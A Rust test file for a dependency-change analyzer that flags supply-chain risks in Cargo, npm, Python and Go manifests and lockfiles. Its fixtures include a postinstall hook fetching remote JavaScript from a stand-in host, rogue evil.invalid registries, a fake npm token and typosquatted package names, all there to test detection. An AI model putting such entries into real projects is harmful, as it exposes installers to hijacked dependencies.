//! Dependency rules on real manifests and lockfiles (copied from what is installed on the
//! build machine, see `manifests/README.md`), mutated the way an agent would: each rule fires
//! on a real file and names exactly what it saw, and stays quiet on a harmless edit of it (a
//! comment, a reordering, a description). Every report is checked to be the same through the
//! whole-file path.

use autogate_analysis::manifest::{Change, Rule};
use autogate_analysis::{
    AnalysisContext, ChangeUnit, FileChange, ImpactReport, Level, ProtectedPaths, SymbolIndex,
    analyze, analyze_whole,
};

fn fixture(name: &str) -> String {
    let path = format!("{}/tests/manifests/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read_to_string(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

fn report_with(
    path: &str,
    before: Option<&str>,
    after: Option<&str>,
    index: Option<&SymbolIndex>,
) -> ImpactReport {
    let unit = ChangeUnit {
        files: vec![FileChange {
            path: path.to_owned(),
            old_path: None,
            before: before.map(str::to_owned),
            after: after.map(str::to_owned),
        }],
    };
    let protected = ProtectedPaths::empty();
    let ctx = AnalysisContext {
        protected: &protected,
        index,
    };
    let report = analyze(&unit, &ctx);
    assert_eq!(report, analyze_whole(&unit, &ctx), "both paths agree");
    report
}

fn report(path: &str, before: &str, after: &str) -> ImpactReport {
    report_with(path, Some(before), Some(after), None)
}

/// The rules that fired, with their reasons.
fn fired(r: &ImpactReport) -> Vec<(Rule, String)> {
    r.dependencies
        .iter()
        .flat_map(|c| c.findings.iter().map(|f| (f.rule, f.reason.clone())))
        .collect()
}

#[track_caller]
fn assert_fires(r: &ImpactReport, rule: Rule, needle: &str) {
    let hits = fired(r);
    assert!(
        hits.iter()
            .any(|(ru, why)| *ru == rule && why.contains(needle)),
        "expected {rule} naming {needle:?}; fired: {hits:#?}"
    );
    assert!(
        r.level >= rule.default_level(),
        "level {} below the rule's",
        r.level
    );
    assert!(
        r.reasons.iter().any(|why| why.contains(needle)),
        "the reason reaches the report: {:#?}",
        r.reasons
    );
}

#[track_caller]
fn assert_quiet(r: &ImpactReport) {
    assert!(r.dependencies.is_empty(), "{:#?}", r.dependencies);
}

fn insert_after(text: &str, anchor: &str, add: &str) -> String {
    let i = text
        .find(anchor)
        .unwrap_or_else(|| panic!("anchor {anchor:?}"))
        + anchor.len();
    format!("{}{add}{}", &text[..i], &text[i..])
}

fn replace_once(text: &str, from: &str, to: &str) -> String {
    assert!(text.contains(from), "{from:?} not in the fixture");
    text.replacen(from, to, 1)
}

// ---- Cargo ------------------------------------------------------------------------------

#[test]
fn cargo_toml_harmless_edits_are_quiet_and_low() {
    let real = fixture("reqwest.Cargo.toml");
    let comment = insert_after(&real, "[dependencies.bytes]\n", "# bytes is re-exported\n");
    let r = report("Cargo.toml", &real, &comment);
    assert_quiet(&r);
    assert_eq!(r.level, Level::Low, "{:#?}", r.reasons);
    // Two dependency tables swapped.
    let base64 = "[dependencies.base64]\nversion = \"0.22\"\n\n";
    assert!(real.contains(base64), "fixture layout");
    let reordered = insert_after(
        &real.replacen(base64, "", 1),
        "[dependencies.bytes]\nversion = \"1.2\"\n\n",
        base64,
    );
    assert_ne!(reordered, real);
    let r = report("Cargo.toml", &real, &reordered);
    assert_quiet(&r);
    assert_eq!(r.level, Level::Low, "{:#?}", r.reasons);
    // A description is outside the dependency analysis: quiet, but not low.
    let described = replace_once(&real, "description = \"", "description = \"Fast: ");
    let r = report("Cargo.toml", &real, &described);
    assert_quiet(&r);
    assert_eq!(r.level, Level::Medium);
}

#[test]
fn cargo_new_registry_dependency_is_medium() {
    let real = fixture("reqwest.Cargo.toml");
    let added = insert_after(
        &real,
        "[dependencies.bytes]\nversion = \"1.2\"\n",
        "\n[dependencies.anyhow]\nversion = \"1\"\n",
    );
    let r = report("Cargo.toml", &real, &added);
    assert_fires(
        &r,
        Rule::NewRegistry,
        "new dependency `anyhow` 1 in `dependencies` (registry)",
    );
    assert_eq!(r.level, Level::Medium, "{:#?}", r.reasons);
    assert_eq!(r.dependencies.len(), 1);
    assert_eq!(r.dependencies[0].change, Change::Added);
}

#[test]
fn cargo_git_url_and_outside_path_dependencies_are_high() {
    let real = fixture("reqwest.Cargo.toml");
    let git = insert_after(
        &real,
        "[dependencies.bytes]\nversion = \"1.2\"\n",
        "\n[dependencies.fastjson]\ngit = \"https://git.example.invalid/fastjson.git\"\nrev = \"9f1c2d\"\n",
    );
    let r = report("Cargo.toml", &real, &git);
    assert_fires(
        &r,
        Rule::NonRegistry,
        "from git `https://git.example.invalid/fastjson.git`",
    );
    assert_eq!(r.level, Level::High);

    let target = "[target.'cfg(not(target_arch = \"wasm32\"))'.dependencies.h2]";
    let outside = insert_after(&real, &format!("{target}\n"), "");
    let outside = insert_after(
        &outside,
        "[dependencies.bytes]\nversion = \"1.2\"\n",
        "\n[target.'cfg(unix)'.dependencies.helper]\npath = \"../../../home/me/helper\"\n",
    );
    let r = report("crates/net/Cargo.toml", &real, &outside);
    assert_fires(
        &r,
        Rule::NonRegistry,
        "from path `../../../home/me/helper` outside the workspace",
    );
    assert!(r.dependencies[0].section.starts_with("target.'cfg(unix)'"));

    let inside = insert_after(
        &real,
        "[dependencies.bytes]\nversion = \"1.2\"\n",
        "\n[dev-dependencies.helper]\npath = \"../helper\"\n",
    );
    let r = report("crates/net/Cargo.toml", &real, &inside);
    assert_fires(&r, Rule::LocalPath, "from local path `../helper`");
    assert_eq!(r.level, Level::Medium);
}

#[test]
fn cargo_typosquat_is_high_and_named() {
    let real = fixture("reqwest.Cargo.toml");
    let squat = insert_after(
        &real,
        "[dependencies.bytes]\nversion = \"1.2\"\n",
        "\n[dependencies.serde_jsno]\nversion = \"1\"\n",
    );
    let r = report("Cargo.toml", &real, &squat);
    assert_fires(
        &r,
        Rule::Typosquat,
        "`serde_jsno` swaps two letters of the well-known `serde-json`",
    );
    assert_eq!(r.level, Level::High);
    // A renamed dependency is checked under its real package name.
    let renamed = insert_after(
        &real,
        "[dependencies.bytes]\nversion = \"1.2\"\n",
        "\n[dependencies.json]\npackage = \"serdejson\"\nversion = \"1\"\n",
    );
    let r = report("Cargo.toml", &real, &renamed);
    assert_fires(
        &r,
        Rule::Typosquat,
        "`serdejson` differs from the well-known `serde-json` only in its separators",
    );
}

#[test]
fn cargo_build_script_and_links_are_high() {
    let real = fixture("libgit2-sys.Cargo.toml");
    let build = replace_once(
        &real,
        "build = \"build.rs\"",
        "build = \"tools/fetch-and-build.rs\"",
    );
    let r = report("Cargo.toml", &real, &build);
    assert_fires(
        &r,
        Rule::InstallScript,
        "install/build script `build` changed: `build.rs` → `tools/fetch-and-build.rs`",
    );
    let links = replace_once(&real, "links = \"git2\"", "links = \"git3\"");
    let r = report("Cargo.toml", &real, &links);
    assert_fires(&r, Rule::InstallScript, "`links` changed");
}

#[test]
fn cargo_major_bump_and_downgrade_are_high_minor_is_medium() {
    let real = fixture("reqwest.Cargo.toml");
    let major = replace_once(
        &real,
        "[dependencies.bytes]\nversion = \"1.2\"",
        "[dependencies.bytes]\nversion = \"2.0\"",
    );
    assert_fires(
        &report("Cargo.toml", &real, &major),
        Rule::MajorBump,
        "`bytes` major-version bump 1.2 → 2.0",
    );
    let down = replace_once(
        &real,
        "[dependencies.base64]\nversion = \"0.22\"",
        "[dependencies.base64]\nversion = \"0.21\"",
    );
    assert_fires(
        &report("Cargo.toml", &real, &down),
        Rule::Downgrade,
        "`base64` downgraded 0.22 → 0.21",
    );
    let minor = replace_once(
        &real,
        "[dependencies.bytes]\nversion = \"1.2\"",
        "[dependencies.bytes]\nversion = \"1.5\"",
    );
    let r = report("Cargo.toml", &real, &minor);
    assert_fires(
        &r,
        Rule::RequirementChange,
        "`bytes` requirement 1.2 → 1.5, within its compatible line",
    );
    assert_eq!(r.level, Level::Medium);
}

#[test]
fn cargo_patch_section_is_a_registry_override() {
    let real = fixture("reqwest.Cargo.toml");
    let patched = format!(
        "{real}\n[patch.crates-io]\nserde = {{ git = \"https://git.example.invalid/serde\" }}\n"
    );
    let r = report("Cargo.toml", &real, &patched);
    assert_fires(
        &r,
        Rule::RegistryOverride,
        "`serde` overridden in `[patch.crates-io]` by git `https://git.example.invalid/serde`",
    );
}

#[test]
fn cargo_removed_dependency_still_imported_is_high() {
    let real = fixture("reqwest.Cargo.toml");
    let block = "[dependencies.serde_urlencoded]\n";
    let start = real.find(block).unwrap_or_default();
    let end = start + real[start..].find("\n\n").unwrap_or_default() + 2;
    let removed = format!("{}{}", &real[..start], &real[end..]);
    let mut index = SymbolIndex::new();
    index.add_file(
        "src/form.rs",
        "pub fn encode(v: &V) -> String { serde_urlencoded::to_string(v).unwrap_or_default() }\n",
    );
    let r = report_with("Cargo.toml", Some(&real), Some(&removed), Some(&index));
    assert_fires(
        &r,
        Rule::RemovedInUse,
        "`serde_urlencoded` removed from `dependencies` but still imported in `src/form.rs`",
    );
    assert_eq!(r.level, Level::High);
    // Nobody imports it: an ordinary removal.
    let r = report_with(
        "Cargo.toml",
        Some(&real),
        Some(&removed),
        Some(&SymbolIndex::new()),
    );
    assert_fires(
        &r,
        Rule::Removed,
        "dependency `serde_urlencoded` removed from `dependencies`",
    );
    assert_eq!(r.level, Level::Medium);
}

#[test]
fn cargo_lock_refresh_within_range_is_low() {
    let real = fixture("autogate.Cargo.lock");
    let refreshed = replace_once(
        &real,
        "name = \"memchr\"\nversion = \"2.8.3\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"cf8baf1c55e62ffcace7a9f06f4bd9cd3f0c4beb022d3b367256b91b87513d98\"",
        "name = \"memchr\"\nversion = \"2.8.4\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"0000000000000000000000000000000000000000000000000000000000000001\"",
    );
    let r = report("Cargo.lock", &real, &refreshed);
    assert_fires(
        &r,
        Rule::LockRefresh,
        "`memchr` 2.8.3 → 2.8.4, within its compatible line",
    );
    assert_eq!(r.level, Level::Low, "{:#?}", r.reasons);
    assert_eq!(r.dependencies[0].version.as_deref(), Some("2.8.4"));
}

#[test]
fn cargo_lock_swaps_and_downgrades_are_high() {
    let real = fixture("autogate.Cargo.lock");
    let swapped = replace_once(
        &real,
        "checksum = \"cf8baf1c55e62ffcace7a9f06f4bd9cd3f0c4beb022d3b367256b91b87513d98\"",
        "checksum = \"1111111111111111111111111111111111111111111111111111111111111111\"",
    );
    let r = report("Cargo.lock", &real, &swapped);
    assert_fires(
        &r,
        Rule::LockSourceSwap,
        "`memchr` 2.8.3: checksum changed with no version change",
    );
    assert_eq!(r.level, Level::High);
    let git = replace_once(
        &real,
        "name = \"memchr\"\nversion = \"2.8.3\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"",
        "name = \"memchr\"\nversion = \"2.8.3\"\nsource = \"git+https://git.example.invalid/memchr#deadbeef\"",
    );
    assert_fires(
        &report("Cargo.lock", &real, &git),
        Rule::LockSourceSwap,
        "`memchr` source changed from registry to git `https://git.example.invalid/memchr#deadbeef`",
    );
    let down = replace_once(
        &real,
        "name = \"memchr\"\nversion = \"2.8.3\"",
        "name = \"memchr\"\nversion = \"2.7.0\"",
    );
    assert_fires(
        &report("Cargo.lock", &real, &down),
        Rule::Downgrade,
        "`memchr` downgraded 2.8.3 → 2.7.0",
    );
}

#[test]
fn broken_manifest_raises_never_lowers() {
    let real = fixture("reqwest.Cargo.toml");
    let broken = format!("{real}\n[dependencies.oops\n");
    let r = report("Cargo.toml", &real, &broken);
    assert!(
        r.reasons
            .iter()
            .any(|w| w.contains("`Cargo.toml`: does not parse")),
        "{:#?}",
        r.reasons
    );
    assert_eq!(r.level, Level::High);
}

// ---- npm --------------------------------------------------------------------------------

#[test]
fn package_json_harmless_edits_are_quiet() {
    let real = fixture("bin-links.package.json");
    let reordered = replace_once(
        &real,
        "\"cmd-shim\": \"^8.0.0\",\n    \"npm-normalize-package-bin\": \"^5.0.0\",",
        "\"npm-normalize-package-bin\": \"^5.0.0\",\n    \"cmd-shim\": \"^8.0.0\",",
    );
    let r = report("package.json", &real, &reordered);
    assert_quiet(&r);
    assert_eq!(r.level, Level::Low, "{:#?}", r.reasons);
    let described = replace_once(&real, "\"description\": \"", "\"description\": \"Now: ");
    assert_quiet(&report("package.json", &real, &described));
    // A script npm does not run on install.
    let test_script = replace_once(&real, "\"test\": \"tap\"", "\"test\": \"tap --bail\"");
    assert_quiet(&report("package.json", &real, &test_script));
}

#[test]
fn package_json_install_script_is_high() {
    let real = fixture("bin-links.package.json");
    let hooked = replace_once(
        &real,
        "\"scripts\": {\n",
        "\"scripts\": {\n    \"postinstall\": \"node -e \\\"require('https').get('https://x.invalid/p.js')\\\"\",\n",
    );
    let r = report("package.json", &real, &hooked);
    assert_fires(
        &r,
        Rule::InstallScript,
        "new install/build script `postinstall`",
    );
    assert_eq!(r.level, Level::High);
}

#[test]
fn package_json_typosquat_git_and_tarball_are_high() {
    let real = fixture("vscode.package.json");
    let deps = "\"vscode-languageclient\": \"9.0.1\"";
    let squat = replace_once(
        &real,
        deps,
        &format!("{deps},\n    \"lodahs\": \"^4.17.21\""),
    );
    let r = report("package.json", &real, &squat);
    assert_fires(
        &r,
        Rule::Typosquat,
        "`lodahs` swaps two letters of the well-known `lodash`",
    );
    let js = replace_once(
        &real,
        deps,
        &format!("{deps},\n    \"expressjs\": \"^4.0.0\""),
    );
    assert_fires(
        &report("package.json", &real, &js),
        Rule::Typosquat,
        "`expressjs` adds a suffix to the well-known `express`",
    );
    let git = replace_once(
        &real,
        deps,
        &format!("{deps},\n    \"left-pad\": \"github:someone/left-pad#main\""),
    );
    assert_fires(
        &report("package.json", &real, &git),
        Rule::NonRegistry,
        "from git `github:someone/left-pad#main`",
    );
    let shorthand = replace_once(
        &real,
        deps,
        &format!("{deps},\n    \"left-pad\": \"someone/left-pad\""),
    );
    assert_fires(
        &report("package.json", &real, &shorthand),
        Rule::NonRegistry,
        "from git `github:someone/left-pad`",
    );
    let tarball = replace_once(
        &real,
        deps,
        &format!("{deps},\n    \"left-pad\": \"https://x.invalid/left-pad-1.3.0.tgz\""),
    );
    assert_fires(
        &report("package.json", &real, &tarball),
        Rule::NonRegistry,
        "from URL `https://x.invalid/left-pad-1.3.0.tgz`",
    );
    let alias = replace_once(
        &real,
        deps,
        &format!("{deps},\n    \"lodash\": \"npm:lodahs@4.17.21\""),
    );
    assert_fires(
        &report("package.json", &real, &alias),
        Rule::Typosquat,
        "`lodahs`",
    );
}

#[test]
fn package_json_major_bump_and_overrides() {
    let real = fixture("vscode.package.json");
    let major = replace_once(
        &real,
        "\"vscode-languageclient\": \"9.0.1\"",
        "\"vscode-languageclient\": \"10.0.0\"",
    );
    assert_fires(
        &report("package.json", &real, &major),
        Rule::MajorBump,
        "`vscode-languageclient` major-version bump 9.0.1 → 10.0.0",
    );
    let overridden = replace_once(
        &real,
        "\"dependencies\": {",
        "\"overrides\": {\n    \"semver\": \"git+https://x.invalid/semver.git\"\n  },\n  \"dependencies\": {",
    );
    let r = report("package.json", &real, &overridden);
    assert_fires(
        &r,
        Rule::NonRegistry,
        "new dependency `semver` git+https://x.invalid/semver.git in `overrides` from git",
    );
}

#[test]
fn package_lock_refresh_is_low_and_install_scripts_and_swaps_are_high() {
    let real = fixture("vscode.package-lock.json");
    let semver = "\"node_modules/semver\": {\n      \"version\": \"7.8.6\",\n      \"integrity\": \"sha512-9lpSSU4Mly3mrtruwLs1eLK6+gzbzqeBFwRNjIjE+9LuDpWdYctrQlQ3ej1Ilgi7gknpsTRnPoLP8DpCHqHIJw==\",";
    let refreshed = replace_once(
        &real,
        semver,
        "\"node_modules/semver\": {\n      \"version\": \"7.8.7\",\n      \"integrity\": \"sha512-AAAA\",",
    );
    let r = report("package-lock.json", &real, &refreshed);
    assert_fires(
        &r,
        Rule::LockRefresh,
        "`semver` 7.8.6 → 7.8.7, within its compatible line",
    );
    assert_eq!(r.level, Level::Low, "{:#?}", r.reasons);
    let swapped = replace_once(
        &real,
        semver,
        "\"node_modules/semver\": {\n      \"version\": \"7.8.6\",\n      \"resolved\": \"https://registry.evil.invalid/semver/-/semver-7.8.6.tgz\",\n      \"integrity\": \"sha512-9lpSSU4Mly3mrtruwLs1eLK6+gzbzqeBFwRNjIjE+9LuDpWdYctrQlQ3ej1Ilgi7gknpsTRnPoLP8DpCHqHIJw==\",",
    );
    assert_fires(
        &report("package-lock.json", &real, &swapped),
        Rule::LockSourceSwap,
        "`semver` source changed from registry to registry `registry.evil.invalid`",
    );
    let scripted = replace_once(
        &real,
        semver,
        &format!("{semver}\n      \"hasInstallScript\": true,"),
    );
    assert_fires(
        &report("package-lock.json", &real, &scripted),
        Rule::InstallScript,
        "locked package `semver` 7.8.6 now runs an install script",
    );
}

#[test]
fn npmrc_registry_override_is_high_and_credentials_are_not_shown() {
    let before = "save-exact=true\n";
    let after = "save-exact=true\nregistry=https://npm.evil.invalid/\n//npm.evil.invalid/:_authToken=npm_abcdefghijklmnopqrstuvwxyz0123456789\n";
    let r = report(".npmrc", before, after);
    assert_fires(
        &r,
        Rule::RegistryOverride,
        "new registry/index setting `registry`: `https://npm.evil.invalid/`",
    );
    assert!(
        !r.reasons.iter().any(|w| w.contains("npm_abcdefghij")),
        "{:#?}",
        r.reasons
    );
    assert!(
        !serde_json::to_string(&r.dependencies)
            .unwrap_or_default()
            .contains("npm_abcdefghij")
    );
}

// ---- Python -----------------------------------------------------------------------------

#[test]
fn requirements_harmless_edits_are_quiet() {
    let real = fixture("httplib2.requirements-test.txt");
    let commented = format!("# test tools, pinned\n{real}");
    let r = report("requirements-test.txt", &real, &commented);
    assert_quiet(&r);
    assert_eq!(r.level, Level::Low, "{:#?}", r.reasons);
    let reordered = replace_once(
        &real,
        "flake8==3.9.2\nfuture==0.16.0\n",
        "future==0.16.0\nflake8==3.9.2\n",
    );
    assert_quiet(&report("requirements-test.txt", &real, &reordered));
}

#[test]
fn requirements_rules_fire_on_a_real_file() {
    let real = fixture("httplib2.requirements-test.txt");
    let squat = format!("{real}reqeusts==2.31.0\n");
    let r = report("requirements-test.txt", &real, &squat);
    assert_fires(
        &r,
        Rule::Typosquat,
        "`reqeusts` swaps two letters of the well-known `requests`",
    );
    assert_eq!(r.dependencies[0].version.as_deref(), Some("2.31.0"));
    let index = format!("--extra-index-url https://pypi.evil.invalid/simple\n{real}");
    assert_fires(
        &report("requirements-test.txt", &real, &index),
        Rule::RegistryOverride,
        "new registry/index setting `extra-index-url`: `https://pypi.evil.invalid/simple`",
    );
    let git = format!("{real}-e git+https://git.example.invalid/six.git@main#egg=six-fork\n");
    assert_fires(
        &report("requirements-test.txt", &real, &git),
        Rule::NonRegistry,
        "from git `git+https://git.example.invalid/six.git@main#egg=six-fork`",
    );
    let down = replace_once(&real, "six==1.10.0", "six==1.9.0");
    assert_fires(
        &report("requirements-test.txt", &real, &down),
        Rule::Downgrade,
        "`six` downgraded ==1.10.0 → ==1.9.0",
    );
    let major = replace_once(&real, "flake8==3.9.2", "flake8==7.0.0");
    assert_fires(
        &report("requirements-test.txt", &real, &major),
        Rule::MajorBump,
        "`flake8` major-version bump",
    );
    let url = format!("{real}https://files.example.invalid/pkgs/cryptography-35.0.0.tar.gz\n");
    assert_fires(
        &report("requirements-test.txt", &real, &url),
        Rule::NonRegistry,
        "new dependency `cryptography` in `requirements` from URL",
    );
}

#[test]
fn pyproject_rules_fire_and_descriptions_stay_quiet() {
    let real = fixture("urllib3.pyproject.toml");
    let described = replace_once(
        &real,
        "description = \"HTTP library",
        "description = \"The HTTP library",
    );
    assert_quiet(&report("pyproject.toml", &real, &described));
    let commented = replace_once(
        &real,
        "[project.optional-dependencies]\n",
        "[project.optional-dependencies]\n# extras\n",
    );
    let r = report("pyproject.toml", &real, &commented);
    assert_quiet(&r);
    assert_eq!(r.level, Level::Low);
    let squat = replace_once(
        &real,
        "zstd = [\n  \"zstandard>=0.18.0\",",
        "zstd = [\n  \"zstandard>=0.18.0\",\n  \"python-dateutils>=2.8\",",
    );
    assert_fires(
        &report("pyproject.toml", &real, &squat),
        Rule::Typosquat,
        "`python-dateutils` is one letter from the well-known `python-dateutil`",
    );
    let build = replace_once(
        &real,
        "requires = [\"hatchling>=1.6.0,<2\"]",
        "requires = [\"hatchling>=1.6.0,<2\", \"setuptools-evil @ https://x.invalid/s.whl\"]",
    );
    assert_fires(
        &report("pyproject.toml", &real, &build),
        Rule::NonRegistry,
        "new dependency `setuptools-evil` in `build-system.requires` from URL",
    );
    let index = format!(
        "{real}\n[[tool.uv.index]]\nname = \"mirror\"\nurl = \"https://pypi.evil.invalid/simple\"\n"
    );
    assert_fires(
        &report("pyproject.toml", &real, &index),
        Rule::RegistryOverride,
        "new registry/index setting `mirror`: `https://pypi.evil.invalid/simple`",
    );
}

#[test]
fn setup_cfg_install_requires() {
    let real = fixture("httplib2.setup.cfg");
    let added =
        format!("{real}\n[options]\ninstall_requires =\n    pyparsing>=2.4.2\n    urllib4>=1.0\n");
    let r = report("setup.cfg", &real, &added);
    assert_fires(
        &r,
        Rule::NewRegistry,
        "new dependency `pyparsing` >=2.4.2 in `install_requires`",
    );
    assert_fires(
        &r,
        Rule::Typosquat,
        "`urllib4` is one letter from the well-known `urllib3`",
    );
}

// ---- Go ---------------------------------------------------------------------------------

#[test]
fn go_mod_rules_fire_on_a_real_file() {
    let real = fixture("go-cmd.go.mod");
    let commented = replace_once(&real, "go 1.19\n", "go 1.19\n\n// tools\n");
    let r = report("go.mod", &real, &commented);
    assert_quiet(&r);
    assert_eq!(r.level, Level::Low);
    let replaced = format!("{real}\nreplace golang.org/x/sys => github.com/someone/sys v0.1.0\n");
    assert_fires(
        &report("go.mod", &real, &replaced),
        Rule::RegistryOverride,
        "`golang.org/x/sys` overridden in `[replace]` by registry `github.com/someone/sys@v0.1.0`",
    );
    let squat = replace_once(
        &real,
        "require (\n",
        "require (\n\tgithub.com/stretchr/testfy v1.8.0\n",
    );
    assert_fires(
        &report("go.mod", &real, &squat),
        Rule::Typosquat,
        "`github.com/stretchr/testfy` is one letter from the well-known `github.com/stretchr/testify`",
    );
    let down = replace_once(
        &real,
        "golang.org/x/sync v0.0.0-20220513210516-0976fa681c29",
        "golang.org/x/sync v0.0.0-20210220032951-036812b2e83c",
    );
    assert_fires(
        &report("go.mod", &real, &down),
        Rule::Downgrade,
        "`golang.org/x/sync` downgraded",
    );
}

#[test]
fn go_sum_checksum_swap_is_high() {
    let real = fixture("go-cmd.go.sum");
    let first = real.lines().next().unwrap_or_default().to_owned();
    let mut parts: Vec<&str> = first.split(' ').collect();
    let module = parts[0].to_owned();
    let swapped_hash = "h1:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
    parts[2] = swapped_hash;
    let swapped = replace_once(&real, &first, &parts.join(" "));
    assert_fires(
        &report("go.sum", &real, &swapped),
        Rule::LockSourceSwap,
        &format!("`{module}`"),
    );
}

// ---- Whole files ------------------------------------------------------------------------

#[test]
fn a_new_manifest_is_analyzed_whole() {
    let created = "{\n  \"name\": \"x\",\n  \"dependencies\": { \"left-pad\": \"1.3.0\", \"crossenv\": \"^1.0.0\" }\n}\n";
    let r = report_with("web/package.json", None, Some(created), None);
    assert_fires(&r, Rule::NewRegistry, "new dependency `left-pad` 1.3.0");
    assert_fires(
        &r,
        Rule::Typosquat,
        "`crossenv` differs from the well-known `cross-env` only in its separators",
    );
    let pinned: Vec<_> = r
        .dependencies
        .iter()
        .filter_map(|d| d.version.as_deref())
        .collect();
    assert_eq!(pinned, ["1.3.0"], "only exact pins are looked up");
}

#[test]
fn cargo_config_source_replacement_and_wrappers_are_high() {
    let before = "[build]\njobs = 2\n";
    let after = "[build]\njobs = 2\nrustc-wrapper = \"/tmp/w.sh\"\n\n[source.crates-io]\nreplace-with = \"mirror\"\n\n[source.mirror]\nregistry = \"sparse+https://crates.evil.invalid/\"\n";
    let r = report(".cargo/config.toml", before, after);
    assert_fires(
        &r,
        Rule::RegistryOverride,
        "new registry/index setting `source.crates-io.replace-with`: `mirror`",
    );
    assert_fires(
        &r,
        Rule::InstallScript,
        "new install/build script `build.rustc-wrapper`",
    );
    // `jobs` alone is not a dependency setting.
    let r = report(".cargo/config.toml", before, "[build]\njobs = 4\n");
    assert_quiet(&r);
}

#[test]
fn poetry_tables_and_sources() {
    let before = "[tool.poetry]\nname = \"x\"\n\n[tool.poetry.dependencies]\npython = \"^3.11\"\nrequests = \"^2.31\"\n";
    let after = "[tool.poetry]\nname = \"x\"\n\n[tool.poetry.dependencies]\npython = \"^3.12\"\nrequests = \"^2.31\"\nhelper = { git = \"https://git.example.invalid/helper.git\", branch = \"main\" }\n\n[[tool.poetry.source]]\nname = \"corp\"\nurl = \"https://pypi.corp.invalid/simple\"\n";
    let r = report("pyproject.toml", before, after);
    assert_fires(
        &r,
        Rule::NonRegistry,
        "new dependency `helper` in `tool.poetry.dependencies` from git `https://git.example.invalid/helper.git`",
    );
    assert_fires(
        &r,
        Rule::RegistryOverride,
        "new registry/index setting `corp`: `https://pypi.corp.invalid/simple`",
    );
    assert!(
        !fired(&r).iter().any(|(_, why)| why.contains("`python`")),
        "the interpreter is not a dependency"
    );
}

#[test]
fn real_lockfiles_created_whole_name_no_typosquat() {
    // Every package of two real lockfiles is "new": none of them is a typosquat.
    for (path, name) in [
        ("Cargo.lock", "autogate.Cargo.lock"),
        ("package-lock.json", "vscode.package-lock.json"),
        ("go.sum", "go-cmd.go.sum"),
    ] {
        let text = fixture(name);
        let r = report_with(path, None, Some(&text), None);
        let squats: Vec<String> = fired(&r)
            .into_iter()
            .filter(|(rule, _)| *rule == Rule::Typosquat)
            .map(|(_, why)| why)
            .collect();
        assert!(squats.is_empty(), "{path}: {squats:#?}");
        assert!(r.dependencies.len() > 5, "{path}");
    }
}
